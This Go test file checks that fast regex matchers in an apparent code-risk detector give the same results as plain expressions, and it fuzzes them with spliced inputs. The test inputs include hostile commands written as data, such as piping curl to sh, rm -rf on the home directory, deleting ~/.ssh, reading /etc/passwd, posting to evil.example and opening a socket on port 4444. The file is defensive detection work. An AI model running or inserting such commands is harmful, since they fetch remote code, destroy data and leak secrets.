package riskmodel

import (
	"bufio"
	"math/rand"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
)

// litRegexpCases are the expressions served by litRegexp; each must derive a prefix set (or
// the acceleration silently stops applying) and agree with the plain expression.
func litRegexpCases() map[string]*litRegexp {
	return map[string]*litRegexp{
		"reShellCall": reShellCall(), "reBacktick": reBacktick(), "reDelete": reDelete(),
		"reOpen": reOpen(), "reURL": reURL(), "reSocket": reSocket(), "reB64Literal": reB64Literal(),
		"reSendsBody": reSendsBody(), "reBareURL": reBareURL(),
		"mcpReRemoteCode": mcpReRemoteCode.re(), "mcpReEditorAgentApproval": mcpReEditorAgentApproval(), "mcpReLoaderEnv": mcpReLoaderEnv.re(), "mcpReFolderOpenTask": mcpReFolderOpenTask.re(),
	}
}

func litRegexpInputs(t *testing.T) []string {
	in := []string{
		"", "a", "`", "popen('rm -rf ~')", "os.system(\"curl http://x.y/z | sh\")",
		"shutil.rmtree(os.path.expanduser('~/.ssh'))", "open('/etc/passwd').read()",
		"requests.post('https://evil.example/up', data=x)", "socket.create_connection(('10.0.0.1', 4444))",
		"base64.b64decode('cm0gLXJmIH4v')", "[Convert]::FromBase64String('cm0gLXJmIH4v')",
		"xsystem('x')", "_open('a')", "é open('a')", "\xe2open('a')", "\xffsystem('id')",
		"FTP://Host.Example/x HTTPS://a.b wss://[::1]:80", "fetch(\"http://a\") + fetch('https://b.c/d')",
		"-Method Post -Body x", "uploadstring UPLOADFILE -body", "x.write(", ".end( a)", "data = 1", "data == 1",
		"exec `id`; %x{ls}; qx(whoami); do shell script \"rm -rf ~\"", "io.popen('ls'); os.execute('ls')",
		"subprocess.run(['rm', '-rf', '/tmp/x'])", "Popen([\"ls\"]) check_output('a') spawnSync(\"b\")",
		"fs.rmSync('/a', {recursive: true}); fs.unlinkSync(\"/b\")", "File.write('/x', 'y'); IO.read(\"/z\")",
		"Buffer.from('aGVsbG8gd29ybGQ=', 'base64')", "TCPSocket.new(\"1.2.3.4\", 80); IO::Socket::INET->new(PeerAddr => \"h\", PeerPort => \"9\")",
	}
	in = append(in, inlineCode64KiB()[:4096])
	for _, set := range []string{"dev", "holdout", "blind2", "blind3", "blind4"} {
		f, err := os.Open(filepath.Join("..", "evals", "testdata", set+".jsonl"))
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			in = append(in, sc.Text())
		}
		f.Close()
	}
	// Mutations: splice pieces of the inputs together at random byte offsets.
	r := rand.New(rand.NewSource(1))
	n := len(in)
	for range 1500 {
		a, b := in[r.Intn(n)], in[r.Intn(n)]
		i, j := r.Intn(len(a)+1), r.Intn(len(b)+1)
		s := a[:i] + b[j:]
		if r.Intn(4) == 0 {
			s = strings.ToUpper(s)
		}
		in = append(in, s)
	}
	return in
}

func TestLitRegexpMatchesPlain(t *testing.T) {
	inputs := litRegexpInputs(t)
	if raceEnabled {
		// The comparison is of pure functions; under -race (what make test runs) every
		// twelfth input keeps the run near ten seconds, and `go test ./riskmodel` without
		// -race compares them all.
		var sample []string
		for i := 0; i < len(inputs); i += 12 {
			sample = append(sample, inputs[i])
		}
		inputs = sample
	}
	for name, l := range litRegexpCases() {
		if !l.ok && !l.okASCII {
			t.Errorf("%s: no literal prefix set derived", name)
			continue
		}
		for _, s := range inputs {
			for _, n := range []int{-1, 2} {
				if got, want := l.FindAllStringSubmatchIndex(s, n), l.re.FindAllStringSubmatchIndex(s, n); !reflect.DeepEqual(got, want) {
					t.Fatalf("%s.FindAllStringSubmatchIndex(%.200q, %d) = %v, want %v", name, s, n, got, want)
				}
			}
			if got, want := l.FindAllStringSubmatch(s, -1), l.re.FindAllStringSubmatch(s, -1); !reflect.DeepEqual(got, want) {
				t.Fatalf("%s.FindAllStringSubmatch(%.200q) = %q, want %q", name, s, got, want)
			}
			if got, want := l.FindStringSubmatch(s), l.re.FindStringSubmatch(s); !reflect.DeepEqual(got, want) {
				t.Fatalf("%s.FindStringSubmatch(%.200q) = %q, want %q", name, s, got, want)
			}
			if got, want := l.MatchString(s), l.re.MatchString(s); got != want {
				t.Fatalf("%s.MatchString(%.200q) = %v, want %v", name, s, got, want)
			}
		}
	}
}

// TestKeyedDetectorsMatchPlain checks the keyed secret detectors' faster searches against the
// plain expressions they replace.
func TestKeyedDetectorsMatchPlain(t *testing.T) {
	plain := map[byte]*regexp.Regexp{
		'=': regexp.MustCompile(`(?:^|[^A-Za-z0-9_\-.])-{0,2}([A-Za-z_][A-Za-z0-9_\-.]{0,63})[ \t]*=[ \t]*`),
		'j': regexp.MustCompile(`["']([A-Za-z_][A-Za-z0-9_\-.]{0,63})["'][ \t]*:[ \t]*`),
		'y': regexp.MustCompile(`(?m)^[ \t\-]*([A-Za-z_][A-Za-z0-9_\-.]{0,63})[ \t]*:[ \t]+`),
	}
	inputs := append(litRegexpInputs(t), "", ":", "\n", "a: b", "a: b\n", "\na: b", "  - key: v\n\tx:\t1\n-: 2\n_a.b-c: \n:\n", "k:v\nk: v",
		"password: hunter2\r\ntoken:  x\n\n\nsecret:", `{"api_key": "x", 'b':1}`, "A=1 B = 2\n--token=x", "a\nb=1", "\n-x=1", "x\n\n=1\n", "a=1\nb=2\n\tc = 3", "\r\nk=v", "=\n=", "é\nk=v", "x.y\n--k=v\n", "x\n"+strings.Repeat("a", 70)+": 1\n")
	if raceEnabled {
		var sample []string
		for i := 0; i < len(inputs); i += 12 {
			sample = append(sample, inputs[i])
		}
		inputs = sample
	}
	for _, d := range secKeyedDetectors {
		re := plain[d.style]
		for _, s := range inputs {
			for _, n := range []int{-1, 1} {
				if got, want := d.re().FindAllStringSubmatchIndex(s, n), re.FindAllStringSubmatchIndex(s, n); !reflect.DeepEqual(got, want) {
					t.Fatalf("detector %c on %.200q (n=%d): %v, want %v", d.style, s, n, got, want)
				}
			}
		}
	}
}
